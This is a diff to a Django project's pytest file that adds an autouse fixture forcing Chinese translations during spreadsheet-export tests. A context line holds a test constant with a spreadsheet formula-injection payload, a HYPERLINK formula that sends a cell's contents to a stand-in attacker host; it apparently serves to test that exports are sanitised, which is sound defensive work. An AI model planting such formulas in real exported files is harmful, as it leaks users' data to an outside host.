@@ -6,6 +6,7 @@ import io
 
 import pytest
 from django import forms
+from django.utils import translation
 from openpyxl import Workbook, load_workbook
 
 from showroom.core.text import (
@@ -19,6 +20,13 @@ from showroom.core.text import (
 )
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"点击")'
+
+
+@pytest.fixture(autouse=True)
+def chinese():  # type: ignore[no-untyped-def]
+    # The messages are read outside a request: in the product's language, whatever ran before.
+    with translation.override("zh-hans"):
+        yield
 
 
 def reread(workbook: Workbook) -> Workbook:
